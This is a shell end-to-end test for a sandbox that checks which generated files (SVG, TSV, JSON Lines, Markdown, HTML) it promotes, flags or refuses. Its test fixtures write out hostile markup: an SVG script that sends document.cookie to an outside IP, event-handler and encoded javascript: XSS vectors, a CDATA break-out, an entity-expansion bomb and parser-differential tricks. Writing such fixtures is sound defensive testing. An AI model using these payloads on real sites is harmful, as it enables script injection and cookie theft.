#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# outputs-markup.sh - the SVG, TSV, NDJSON, Markdown and HTML outputs, from
# the payload's side: what matplotlib and pandas write is promoted, hostile
# SVG is refused with its reason, Markdown that runs something is flagged,
# and HTML leaves only where a profile allows it (python-analysis: only
# without active content).
. "$SBX_SRCDIR/tests/e2e/lib.sh"

artifact() { jq -r --arg p "$1" ".artifacts[] | select(.path == \$p) | $2" "$OUT"; }
status_of() { artifact "$1" '.media_type + " " + .status + ": " + (.reason // "") + " flags=" + ((.flags // []) | join(","))'; }
promoted() { # PATH TYPE [FLAGS]: promoted as TYPE, with exactly these flags
	local r
	r=$(status_of "$1")
	[ "$r" = "$2 promoted:  flags=${3:-}" ] && return 0
	diag "$1: $r"
	return 1
}
rejected_because() { # PATH REGEX
	local r
	r=$(status_of "$1")
	[[ "$r" =~ ^[^\ ]*\ rejected:\ .*$2 ]] && return 0
	diag "$1: $r"
	return 1
}

# A catalog where the shell profile also allows text/html, text/markdown and
# image/svg+xml.
POLICY_HTML="$T/policy-html"
cp -r "$SBX_SRCDIR/policy" "$POLICY_HTML"
jq '.allowed_outputs += ["text/html", "text/markdown", "image/svg+xml"]' "$SBX_SRCDIR/policy/profiles/shell.json" \
	> "$POLICY_HTML/profiles/shell.json"

for mode in root user; do
	setup_mode $mode

	# --- what ordinary analysis code writes, and hostile SVG beside it -------
	cat > "$M/charts.py" <<'PY'
import json
import matplotlib
matplotlib.use("Agg")
import matplotlib.pyplot as plt, numpy as np, pandas as pd
out = "/work/out/"
df = pd.DataFrame({"region": ["north", "south", "east"], "total": [3, 1, 2]})
plt.bar(df.region, df.total)
plt.imshow(np.random.rand(8, 8), extent=(0, 2, 0, 3), aspect="auto")
plt.title("totals")
plt.savefig("/work/out/c.svg")
df.to_csv(out + "t.tsv", sep="\t", index=False)
df.to_json(out + "r.jsonl", orient="records", lines=True)
with open(out + "report.md", "w") as f:
    f.write("# Totals\n\n![chart](c.svg)\n\n| region | total |\n|---|---|\n")
    f.write("".join("| %s | %d |\n" % tuple(r) for r in df.itertuples(index=False)))
svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">%s</svg>\n'
open(out + "script.svg", "w").write(svg % "<ScRiPt>fetch('http://192.0.2.1/'+document.cookie)</ScRiPt>")
open(out + "onload.svg", "w").write('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n')
open(out + "xlink.svg", "w").write(svg % '<use xlink:href="http://192.0.2.1/sprite.svg#a"/>')
open(out + "jsuri.svg", "w").write(svg % '<a xlink:href="&#106;avascript:alert(1)"><text>x</text></a>')
open(out + "fo.svg", "w").write(svg % '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>')
open(out + "cdata.svg", "w").write(svg % '<style><![CDATA[</style><script>alert(1)</script>]]></style>')
open(out + "laughs.svg", "w").write('<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>\n<svg xmlns="http://www.w3.org/2000/svg">&b;</svg>\n')
open(out + "deep.svg", "w").write("<svg>" + "<g>" * 5000 + "</g>" * 5000 + "</svg>")
open(out + "script.md", "w").write("# Notes\n\n<script>alert(1)</script>\n[x](javascript:alert(1))\n")
open(out + "page.html", "w").write("<!DOCTYPE html><p>hello</p>\n")
open(out + "active.html", "w").write("<!DOCTYPE html><p>hello</p><script>alert(1)</script>\n")
open(out + "bad.jsonl", "w").write('{"a": 1}\n\n{"a": 2}\n')
PY
	mkjob "$M/j.json" python-analysis "$(cat "$M/charts.py")" '{limits: {memory_mib: 512}}'
	sbx_run "$M/j.json"
	expect_rc 0 "$mode: charts and tables: the run succeeds"
	check "$mode: matplotlib's SVG chart is promoted, no flags" promoted c.svg image/svg+xml
	check "$mode: pandas' TSV is promoted" \
		eval 'promoted t.tsv text/tab-separated-values && [ "$(artifact t.tsv .formula_cells)" = false ]'
	check "$mode: pandas' JSON Lines are promoted" promoted r.jsonl application/x-ndjson
	check "$mode: a Markdown report is promoted as text/markdown" promoted report.md text/markdown
	check "$mode: SVG with a mixed-case <script>: rejected" rejected_because script.svg 'refused element \(ScRiPt\)'
	check "$mode: SVG with onload: rejected" rejected_because onload.svg 'event handler attribute \(onload\)'
	check "$mode: SVG with xlink:href to http: rejected" rejected_because xlink.svg 'external reference'
	check "$mode: SVG with an entity-encoded javascript: link: rejected" rejected_because jsuri.svg 'script URI'
	check "$mode: SVG with foreignObject: rejected" rejected_because fo.svg 'refused element \(foreignObject\)'
	check "$mode: SVG with a script in CDATA: rejected" rejected_because cdata.svg "'<' inside a CDATA"
	check "$mode: SVG with entity declarations: rejected" rejected_because laughs.svg 'entity declarations are refused'
	check "$mode: SVG nested 5000 deep: rejected" rejected_because deep.svg 'nested deeper than 256'
	check "$mode: Markdown with a script: promoted, flagged active_content" \
		promoted script.md text/markdown active_content
	check "$mode: HTML without active content: promoted by python-analysis" \
		promoted page.html text/html
	check "$mode: HTML with a script: rejected by python-analysis's refuse_active_content" \
		rejected_because active.html 'active_content: text/html with scripts.*the profile refuses it'
	check "$mode: JSON Lines with an empty line: rejected" rejected_because bad.jsonl 'line 2 column 1: empty line'
	check "$mode: only the valid files reach --artifacts" \
		test "$(cd "$ART" && find . -type f | sort | tr '\n' ' ')" = "./c.svg ./page.html ./r.jsonl ./report.md ./script.md ./t.tsv "
	check "$mode: nothing left behind" nothing_left

	# --- HTML only where a profile says so ----------------------------------------
	mkjob "$M/j.json" shell 'printf "<p>x</p>\n" > /work/out/p.html' \
		'{allowed_outputs: ["text/html"]}'
	sbx_run "$M/j.json"
	expect_rc 77 "$mode: a job cannot allow text/html beyond shell's list"
	check "$mode: ... and says why" grep -q 'text/html' "$ERR"

	mkjob "$M/j.json" shell 'cd /work/out
		printf "<!DOCTYPE html><table><tr><td>1</td></tr></table>\n" > table.html
		printf "<p>x</p><img src=\"http://192.0.2.1/p.gif\">\n" > remote.html
		printf "<div title=\">\" onclick=\"x\">y</div>\n" > handler.html
		printf "# notes\n" > notes.md'
	POLICY=$POLICY_HTML sbx_run "$M/j.json"
	expect_rc 0 "$mode: HTML under a profile that allows it: the run succeeds"
	check "$mode: a plain HTML table: promoted, no flags" promoted table.html text/html
	check "$mode: HTML loading a remote image: promoted, flagged active_content" \
		promoted remote.html text/html active_content
	check "$mode: HTML with an event handler after a quoted '>': flagged active_content" \
		promoted handler.html text/html active_content

	# --- issue 23: markup whose meaning depends on who tokenizes it ---------------
	# Each file is read one way by a strict scanner and another by a browser;
	# the manifest must show the browser's view: refused (SVG) or flagged.
	mkjob "$M/j.json" shell "$(cat <<'SH'
cd /work/out
svg='<svg xmlns="http://www.w3.org/2000/svg">'
cat > decl.svg <<'EOF'
<?xml version="1.0" > <img src=x onerror=alert(document.domain)> ?>
<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>
EOF
p=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
cat > prefix.svg <<EOF
<svg xmlns="http://www.w3.org/2000/svg" xmlns:$p="http://www.w3.org/1999/xlink">
<a><set attributeName="$p:href" to="https://192.0.2.1/"/><text>x</text></a></svg>
EOF
printf '%s<rect style="fill:red;background:image-set(&quot;https://192.0.2.1/x&quot; 1x)"/></svg>\n' "$svg" > imageset.svg
printf '%s<style>rect{background:image-set("https://192.0.2.1/x" 1x)}</style></svg>\n' "$svg" > imageset-style.svg
printf '<p style="background:image-set(&quot;https://192.0.2.1/x&quot; 1x)">x</p>\n' > imageset.html
printf '<body background="https://192.0.2.1/x.png"><p>x</p></body>\n' > background.html
printf '<details title="a"ontoggle=alert(1) open>x</details>\n' > ontoggle.html
printf '<a href="&#106avascript&colon;alert(1)">x</a>\n' > ncr.html
printf '# notes\n\n<details title="a"ontoggle=alert(1) open>x</details>\n' > ontoggle.md
printf '# notes\n\n<a href="&#106avascript&colon;alert(1)">x</a>\n' > ncr.md
printf '<p>plain</p>\n' > plain.html
SH
)"
	POLICY=$POLICY_HTML sbx_run "$M/j.json"
	expect_rc 0 "$mode: issue 23 markup: the run succeeds"
	check "$mode: SVG whose XML declaration holds a tag for HTML: rejected" \
		rejected_because decl.svg "'>' inside the XML declaration"
	check "$mode: SVG animating href through a 40-character prefix: rejected" \
		rejected_because prefix.svg 'animation of a reference'
	check "$mode: SVG with image-set() in a style attribute: rejected" \
		rejected_because imageset.svg 'image-set\('
	check "$mode: SVG with image-set() in <style>: rejected" \
		rejected_because imageset-style.svg 'image-set\('
	check "$mode: HTML with image-set(): flagged active_content" \
		promoted imageset.html text/html active_content
	check "$mode: HTML with <body background>: flagged active_content" \
		promoted background.html text/html active_content
	check "$mode: HTML with a handler straight after a quoted value: flagged active_content" \
		promoted ontoggle.html text/html active_content
	check "$mode: HTML with &#106avascript&colon;: flagged active_content" \
		promoted ncr.html text/html active_content
	check "$mode: Markdown with a handler straight after a quoted value: flagged active_content" \
		promoted ontoggle.md text/markdown active_content
	check "$mode: Markdown with &#106avascript&colon;: flagged active_content" \
		promoted ncr.md text/markdown active_content
	check "$mode: plain HTML beside them: promoted, no flags" promoted plain.html text/html
	check "$mode: nothing left behind" nothing_left

	# --- .md under a profile that allows text/plain only ------------------------------
	mkjob "$M/j.json" shell 'printf "# notes\n" > /work/out/notes.md'
	sbx_run "$M/j.json"
	check "$mode: .md where only text/plain is allowed: promoted as text/plain, as before" \
		promoted notes.md text/plain
	check "$mode: nothing left behind" nothing_left
done

finish
